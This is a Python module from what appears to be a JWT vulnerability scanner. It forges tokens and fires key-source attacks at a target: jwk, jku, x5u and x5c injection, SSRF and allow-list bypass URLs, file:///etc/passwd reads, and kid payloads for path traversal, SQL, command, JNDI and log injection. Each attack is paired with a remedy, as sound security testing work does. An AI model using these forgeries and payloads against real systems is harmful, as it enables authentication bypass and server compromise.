"""Group D: where do the keys come from, and can a token say so?"""

from __future__ import annotations

import base64
import hashlib
import json
import secrets
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import cache
from urllib.parse import quote

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from jwt_guard.attacks import forge
from jwt_guard.attacks.context import Context, host_of
from jwt_guard.attacks.forge import b64, header_of, rehashed
from jwt_guard.attacks.listener import Listener
from jwt_guard.attacks.material import JoseSigner
from jwt_guard.attacks.model import (
    Attack,
    Exchange,
    Need,
    Outcome,
    Play,
    Probe,
    Rule,
    Ruling,
    Send,
    Severity,
    Wait,
    ask,
    each,
    hole,
    must_refuse,
    safe,
)
from jwt_guard.attacks.provider import Served
from jwt_guard.attacks.refetching import recovered, refetched

OWN_KEYS = "Take keys only from the configured issuer; ignore jwk, jku, x5u and x5c in the header."
OPAQUE_KID = "Use kid only to look up a key in a table; never build a path, query or command of it."
DELAY = 3


def _attacker(context: Context) -> JoseSigner:
    return context.attacker.like(context.token.alg)


def _embedded(context: Context) -> Iterator[Probe]:
    for signer in (context.attacker.rsa, context.attacker.ec):
        for kid in (context.token.kid, "attacker", None):
            header = header_of(
                context.token, alg=signer.alg, kid=kid, jwk={**signer.public_jwk, "kid": kid}
            )
            text = forge.sign(signer, header, context.fresh())
            yield context.attempt(text, f"{signer.alg} key in the header, kid {kid!r}")
    yield _embedded_secret(context)


def _embedded_secret(context: Context) -> Probe:
    secret = context.attacker.secret
    jwk = {"kty": "oct", "k": b64(secret)}
    return context.attempt(rehashed(context.token, secret, jwk=jwk), "an HMAC key in the header")


def _tag() -> str:
    return secrets.token_hex(6)


Address = Callable[[Listener, str], dict[str, object]]


def _pointed(context: Context, places: dict[str, Address]) -> Play:
    """Send one token for each place, and hold a call to that place against the target."""
    tags = {label: _tag() for label in places}
    for label, place in places.items():
        signer = _attacker(context)
        header = header_of(
            context.token, alg=signer.alg, kid=signer.kid, **place(context.callback, tags[label])
        )
        yield Send(probes=(context.attempt(forge.sign(signer, header, context.fresh()), label),))
    yield from _called(context, tags)


def _called(context: Context, tags: dict[str, str]) -> Play:
    yield Wait(seconds=context.settle)
    for label, tag in tags.items():
        calls = context.callback.calls(tag)
        ruling = hole(f"the target fetched {calls[0]}") if calls else safe("no callback came")
        yield Rule(about=f"{label}: callback", ruling=ruling)


def _jku(context: Context) -> Play:
    yield from _pointed(
        context,
        {
            "jku to the attacker": lambda listener, tag: {"jku": listener.address(tag)},
            "jku with a fragment": lambda listener, tag: {"jku": f"{listener.address(tag)}#jwks"},
        },
    )


def _trusted_hosts(context: Context) -> tuple[str, ...]:
    issuer = context.token.payload.get("iss")
    named = host_of(issuer) if isinstance(issuer, str) else ""
    return tuple(dict.fromkeys(host for host in (named, host_of(context.origin)) if host))


def _bypass(host: str) -> dict[str, Address]:
    def userinfo(listener: Listener, tag: str) -> dict[str, object]:
        return {"jku": _as_user(listener.address(tag), host)}

    def password(listener: Listener, tag: str) -> dict[str, object]:
        return {"jku": _as_user(listener.address(tag), f"{host}:x")}

    def mentioned(listener: Listener, tag: str) -> dict[str, object]:
        return {"jku": f"{listener.address(tag)}?https://{host}/jwks.json"}

    def suffixed(listener: Listener, tag: str) -> dict[str, object]:
        return {"jku": f"{listener.address(tag)}/{host}/.well-known/jwks.json"}

    def prefixed(listener: Listener, tag: str) -> dict[str, object]:
        # Names under `localhost` are this machine's, where the resolver follows RFC 6761.
        return {"jku": f"http://{host}.localhost:{listener.port}/jwks/{tag}"}

    return {
        f"jku with {host} before the attacker's domain": prefixed,
        f"jku with {host} as user name": userinfo,
        f"jku with {host} as user name and a password": password,
        f"jku with {host} in the query": mentioned,
        f"jku with {host} in the path": suffixed,
    }


def _as_user(url: str, user: str) -> str:
    before, _, after = url.partition("://")
    return f"{before}://{user}@{after}"


def _jku_bypass(context: Context) -> Play:
    for host in _trusted_hosts(context):
        yield from _pointed(context, _bypass(host))
    yield from _pointed(context, _open_redirects(context))


USUAL_REDIRECTS = ("/redirect?url={url}", "/login?next={url}", "/logout?next={url}")


def _open_redirects(context: Context) -> dict[str, Address]:
    """A jku on the target itself, which may trust its own host, and whose redirect leads away."""
    told = context.plan.redirect_route
    routes = USUAL_REDIRECTS if told is None else (told,)

    def place(route: str) -> Address:
        return lambda listener, tag: {
            "jku": context.origin + route.replace("{url}", quote(listener.address(tag), safe=""))
        }

    return {f"jku to an open redirect, {route}": place(route) for route in routes}


def _x5u(context: Context) -> Play:
    yield from _pointed(
        context,
        {"x5u to the attacker": lambda listener, tag: {"x5u": listener.address(tag, "cert")}},
    )


@cache
def self_signed(signer_kind: str, key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey) -> bytes:
    """A self-signed certificate for the key, in DER."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"attacker {signer_kind}")])
    now = datetime.now(UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=30))
    )
    return builder.sign(key, hashes.SHA256()).public_bytes(Encoding.DER)


def _certificate(signer: JoseSigner) -> bytes:
    key = signer.key.private_key
    if not isinstance(key, (rsa.RSAPrivateKey, ec.EllipticCurvePrivateKey)):
        raise TypeError("only RSA and EC keys are certified here")
    return self_signed(signer.alg, key)


def _x5c(context: Context) -> Iterator[Probe]:
    for signer in (context.attacker.rsa, context.attacker.ec):
        der = _certificate(signer)
        chain = [base64.b64encode(der).decode()]
        for kid in (context.token.kid, None):
            header = header_of(context.token, alg=signer.alg, kid=kid, x5c=chain)
            text = forge.sign(signer, header, context.fresh())
            yield context.attempt(text, f"{signer.alg} certificate in x5c, kid {kid!r}")


def _x5t(context: Context) -> Iterator[Probe]:
    signer = _attacker(context)
    der = _certificate(signer)
    prints = {"x5t": hashlib.sha1(der, usedforsecurity=False), "x5t#S256": hashlib.sha256(der)}
    for name, digest in prints.items():
        changes = {name: b64(digest.digest()), "alg": signer.alg}
        text = forge.sign(signer, header_of(context.token, **changes), context.fresh())
        yield context.attempt(text, f"{name} of the attacker's certificate")
    if context.signer is not None:
        text = context.mint(header={"x5t#S256": b64(bytes(32))})
        check = _x5t_tolerated
        yield context.attempt(text, "truly signed, x5t#S256 of no certificate", check=check)


def _x5t_tolerated(exchange: Exchange) -> Ruling:
    """An x5t that is not used to choose a key may be ignored; it must not break anything."""
    return safe("not used") if exchange.outcome is Outcome.ACCEPTED else must_refuse(exchange)


def _issuer_discovery(context: Context) -> Play:
    tags = {"iss names the attacker": _tag(), "iss, with the issuer's kid": _tag()}
    signer = _attacker(context)
    for (label, tag), kid in zip(tags.items(), (signer.kid, context.token.kid), strict=True):
        issuer = context.callback.address(tag, "issuer")
        header = header_of(context.token, alg=signer.alg, kid=kid)
        text = forge.sign(signer, header, context.fresh(iss=issuer))
        yield Send(probes=(context.attempt(text, label),))
    yield from _called(context, tags)


def _schemes(context: Context) -> Iterator[Probe]:
    signer = _attacker(context)
    inline = base64.b64encode(json.dumps({"keys": [signer.public_jwk]}).encode()).decode()
    places = (
        f"data:application/json;base64,{inline}",
        "file:///etc/passwd",
        "file:///dev/null",
        "file://localhost/proc/self/environ",
        "ftp://127.0.0.1:9/jwks.json",
        "gopher://127.0.0.1:9/_",
        "jar:file:///x.zip!/jwks.json",
        "//127.0.0.1:9/jwks.json",
        "",
    )
    for place in places:
        for member in ("jku", "x5u"):
            header = header_of(
                context.token, alg=signer.alg, kid=signer.kid, **{member: place or " "}
            )
            text = forge.sign(signer, header, context.fresh())
            yield context.attempt(text, f"{member} {place[:24]!r}")


def _disguised(context: Context) -> Play:
    port = context.callback.port
    names = {
        "localhost": "localhost",
        "127.1": "127.1",
        "a decimal number": "2130706433",
        "hexadecimal": "0x7f000001",
        "octal": "0177.0.0.1",
        "an IPv4-mapped IPv6 address": "[::ffff:127.0.0.1]",
        "0.0.0.0": "0.0.0.0",  # noqa: S104 - a name to be tried, nothing is bound to it
    }

    def place(name: str) -> Address:
        return lambda _listener, tag: {"jku": f"http://{name}:{port}/jwks/{tag}"}

    yield from _pointed(context, {f"jku to {what}": place(name) for what, name in names.items()})


TRAVERSALS = {
    "../../../../../../../../dev/null": b"",
    "/dev/null": b"",
    "....//....//....//....//dev/null": b"",
    "..%2f..%2f..%2f..%2f..%2fdev%2fnull": b"",
    "../../../../../../../../proc/sys/kernel/randomize_va_space": b"2\n",
    "/proc/sys/kernel/randomize_va_space": b"2\n",
    "file:///dev/null": b"",
    "..\\..\\..\\..\\windows\\win.ini": b"",
    "../../../../../../../../dev/null\u0000": b"",
}


def _traversal(context: Context) -> Iterator[Probe]:
    for kid, key in TRAVERSALS.items():
        for form in (key, key.strip(), b"\x00"):
            text = rehashed(context.token, form, kid=kid)
            yield context.attempt(text, f"kid {kid!r}, keyed with its contents ({len(form)} bytes)")


def _sql(context: Context) -> Play:
    known = "known-key-0123456789"
    injected = (
        f"' UNION SELECT '{known}'-- -",
        f"' UNION SELECT '{known}' --",
        f"x' UNION ALL SELECT '{known}';--",
        f'" UNION SELECT "{known}"-- -',
        f"0 UNION SELECT '{known}'",
        "' OR '1'='1",
        "'",
        '"',
        "'; SELECT 1; --",
    )
    for kid in injected:
        text = rehashed(context.token, known.encode(), kid=kid)
        yield Send(probes=(context.attempt(text, f"kid {kid!r}"),))
    delays = (
        f"'; SELECT pg_sleep({DELAY})--",
        f"' OR SLEEP({DELAY})-- -",
        f"'; WAITFOR DELAY '0:0:{DELAY}'--",
    )
    yield from _timed(context, delays)


def _commands(context: Context) -> Play:
    templates = ("x; sleep {0}", "x | sleep {0}", "$(sleep {0})", "`sleep {0}`", "x && sleep {0}")
    yield from _timed(context, tuple(t.format(DELAY) for t in templates))


def _timed(context: Context, kids: tuple[str, ...]) -> Play:
    """A delay counts only when it comes twice, and goes when the same kid asks for none."""
    for kid in kids:
        probe = context.attempt(rehashed(context.token, b"", kid=kid), f"kid {kid!r}")
        (first,) = yield Send(probes=(probe,))
        if first.answer.elapsed < DELAY * 0.9:
            continue
        calm = rehashed(context.token, b"", kid=kid.replace(str(DELAY), "0"))
        quick = yield from ask(context.attempt(calm, "harmless", check=None))
        again = yield from ask(replace(probe, label="again", check=None))
        delay = min(first.answer.elapsed, again.answer.elapsed) - quick.answer.elapsed
        if delay > DELAY * 0.8:
            ruling = hole(f"answered {delay:.1f} s later, twice")
            yield Rule(about=f"kid {kid!r}", ruling=ruling, exchange=again)
            return


def _log_injection(context: Context) -> Iterator[Probe]:
    kids = (
        "x\r\nX-Injected: yes",
        "x\r\n\r\n<html>",
        "x\nWARNING forged line",
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "\x1b[31mred\x1b[0m",
        "${jndi:ldap://127.0.0.1:9/x}",
        "%s%s%s%n",
        "{0.__class__}",
    )
    for kid in kids:
        text = context.forged(header={"kid": kid})
        yield context.attempt(text, f"kid {kid!r}", check=_not_injected)


def _not_injected(exchange: Exchange) -> Ruling:
    if exchange.answer.header("X-Injected") is not None:
        return hole("the kid wrote a header of the answer", Severity.HIGH)
    return must_refuse(exchange)


ODD_KIDS: dict[str, object] = {
    "blank": "",
    "a space": " ",
    "null": None,
    "a number": 7,
    "zero": 0,
    "true": True,
    "a list": ["x"],
    "an object": {"x": "y"},
    "4 kB": "k" * 4096,
    "a lone surrogate": "\ud800",
    "a null byte": "\u0000",
}


def _odd_kids(context: Context) -> Iterator[Probe]:
    signer = _attacker(context)
    for name, kid in ODD_KIDS.items():
        header = {**context.token.header, "alg": signer.alg, "kid": kid}
        yield context.attempt(forge.sign(signer, header, context.fresh()), f"kid is {name}")


def _second_issuer(context: Context) -> Iterator[Probe]:
    other = context.plan.second_issuer
    yield context.attempt(context.mint(iss=other), "the second issuer's name, the first's key")
    text = context.mint(header={"kid": None}, iss=other)
    yield context.attempt(text, "the same without kid")


HEADERS_WITH_URL = ("jku", "x5u", "kid", "iss", "jwks_uri", "url", "uri", "typ", "cty")
CLAIMS_WITH_URL = ("iss", "sub", "aud", "jti", "jku", "jwks_uri", "picture", "profile", "website")
REQUEST_HEADERS = ("X-Forwarded-Host", "Referer", "Origin", "X-Original-URL", "Forwarded")


def _everywhere(context: Context) -> Play:
    tags: dict[str, str] = {}
    for name in HEADERS_WITH_URL:
        label = f"callback URL in header {name}"
        yield Send(probes=(_header_callback(context, tags, label, name),))
    for name in CLAIMS_WITH_URL:
        label = f"callback URL in claim {name}"
        address = context.callback.address(tags.setdefault(label, _tag()))
        claims: dict[str, object] = {name: address}
        yield Send(probes=(context.attempt(context.forged(claims), label),))
    yield Send(probes=(_request_callback(context, tags),))
    yield from _called(context, tags)


def _header_callback(context: Context, tags: dict[str, str], label: str, name: str) -> Probe:
    address = context.callback.address(tags.setdefault(label, _tag()))
    return context.attempt(context.forged(header={name: address}), label)


def _request_callback(context: Context, tags: dict[str, str]) -> Probe:
    label = "callback URL in request headers"
    address = context.callback.address(tags.setdefault(label, _tag()))
    probe = context.attempt(context.forged(), label)
    request = probe.request
    for name in REQUEST_HEADERS:
        request = request.adding(name, address)
    return replace(probe, request=request)


def _redirected(context: Context) -> Play:
    tag, signer = _tag(), replace(_attacker(context), kid=f"stolen-{_tag()}")
    redirect = Served(status=302, headers={"Location": context.callback.address(tag)})
    text = forge.sign(
        signer, header_of(context.token, alg=signer.alg, kid=signer.kid), context.fresh()
    )
    yield from refetched(context, redirect, text)
    followed = context.callback.calls(tag)
    ruling = hole("the target followed it") if followed else safe("it was not followed")
    yield Rule(about="the key set redirects", ruling=ruling)
    yield from recovered(context)


ATTACKS = (
    Attack(
        id="D1",
        title="Key embedded in the header (jwk)",
        severity=Severity.CRITICAL,
        references=("CVE-2018-0114", "CVE-2026-27962", "RFC 8725bis 3.10", "ASVS 9.1.3"),
        play=each(_embedded),
        proves="The token brings the key by which it is judged.",
        remedy=OWN_KEYS,
    ),
    Attack(
        id="D2",
        title="jku to the attacker's key set",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.10", "ASVS 9.1.3"),
        needs=(Need.LISTENER,),
        play=_jku,
        expected="401, and no request to the address in the token",
        proves="The token says where its key is fetched: forgery, and requests into your network.",
        remedy=OWN_KEYS,
    ),
    Attack(
        id="D3",
        title="jku that passes a careless allow-list",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.10",),
        needs=(Need.LISTENER,),
        play=_jku_bypass,
        expected="401, and no request to the address in the token",
        proves="The allow-list compares text instead of the host that is asked.",
        remedy=f"{OWN_KEYS} If jku must be: compare scheme, host and port of the parsed URL.",
    ),
    Attack(
        id="D4",
        title="x5u to the attacker's certificate",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.10", "RFC 7515 4.1.5"),
        needs=(Need.LISTENER,),
        play=_x5u,
        expected="401, and no request to the address in the token",
        proves="The token says where its certificate is fetched.",
        remedy=OWN_KEYS,
    ),
    Attack(
        id="D5",
        title="Self-signed certificate in x5c",
        severity=Severity.CRITICAL,
        references=("RFC 7515 4.1.6", "RFC 8725bis 3.10"),
        play=each(_x5c),
        proves="Any certificate is as good as the issuer's.",
        remedy=OWN_KEYS,
    ),
    Attack(
        id="D6",
        title="x5t of another certificate",
        severity=Severity.HIGH,
        references=("RFC 7515 4.1.7", "RFC 7515 4.1.8"),
        play=each(_x5t),
        proves="A thumbprint chooses a key that the issuer does not have.",
        remedy=OWN_KEYS,
    ),
    Attack(
        id="D7",
        title="Untrusted iss starts discovery",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.8", "RFC 8725bis 3.10"),
        needs=(Need.LISTENER,),
        play=_issuer_discovery,
        expected="401, and no request to the issuer that the token names",
        proves="Anyone may be an issuer, and the target asks whomever a token names.",
        remedy="Compare iss with the list of trusted issuers before asking anyone anything.",
    ),
    Attack(
        id="D8",
        title="file:, ftp:, data: as key source",
        severity=Severity.CRITICAL,
        references=("CVE-2026-48522", "RFC 8725bis 3.10"),
        play=each(_schemes),
        proves="A URL in the token reads local files or carries the key itself.",
        remedy=OWN_KEYS,
    ),
    Attack(
        id="D9",
        title="Key set that redirects",
        severity=Severity.MEDIUM,
        references=("RFC 8725bis 3.10",),
        needs=(Need.PROVIDER,),
        play=_redirected,
        expected="the redirect is not followed",
        proves="Whoever can redirect the issuer's key set replaces it.",
        remedy="Fetch key sets without following redirects.",
    ),
    Attack(
        id="D10",
        title="Key source on a loopback address in disguise",
        severity=Severity.HIGH,
        references=("RFC 8725bis 3.10",),
        needs=(Need.LISTENER,),
        play=_disguised,
        expected="401, and no request to an inner address",
        proves="A token makes the target call its own inner network.",
        remedy=OWN_KEYS,
    ),
    Attack(
        id="D11",
        title="kid as a path",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.10",),
        play=each(_traversal),
        proves="The kid opens any file, and its known contents are the key.",
        remedy=OPAQUE_KID,
    ),
    Attack(
        id="D12",
        title="kid as SQL",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.10", "ASVS 1.2.4"),
        play=_sql,
        proves="The kid runs in the database, which then gives back the attacker's key.",
        remedy=OPAQUE_KID,
    ),
    Attack(
        id="D13",
        title="kid as a command",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.10", "ASVS 1.2.5"),
        play=_commands,
        proves="The kid runs as a command on the server.",
        remedy=OPAQUE_KID,
    ),
    Attack(
        id="D14",
        title="kid with LDAP, line breaks and format strings",
        severity=Severity.MEDIUM,
        references=("ASVS 16.4.1", "RFC 8725bis 3.10"),
        play=each(_log_injection),
        proves="The kid reaches answers, logs or queries unescaped.",
        remedy=f"{OPAQUE_KID} Escape it in logs.",
    ),
    Attack(
        id="D15",
        title="kid blank, huge or no text",
        severity=Severity.HIGH,
        references=("RFC 7515 4.1.4",),
        play=each(_odd_kids),
        proves="A kid of the wrong kind breaks the target or finds a key.",
        remedy="Refuse a kid that is not a string of reasonable length.",
    ),
    Attack(
        id="D16",
        title="One issuer's token under another issuer's key",
        severity=Severity.CRITICAL,
        references=("RFC 8725bis 3.8", "ASVS 9.2.4"),
        needs=(Need.SIGNING_KEY, Need.SECOND_ISSUER),
        play=each(_second_issuer),
        proves="Every trusted issuer may speak for every other.",
        remedy="Look keys up by issuer and kid together.",
    ),
    Attack(
        id="D17",
        title="A callback URL in every header and claim",
        severity=Severity.HIGH,
        references=("RFC 8725bis 3.10", "ASVS 1.3.6"),
        needs=(Need.LISTENER,),
        play=_everywhere,
        expected="401, and no request to any address in the token",
        proves="Something that an unverified token names is fetched.",
        remedy="Fetch nothing on behalf of a token that is not verified.",
    ),
)
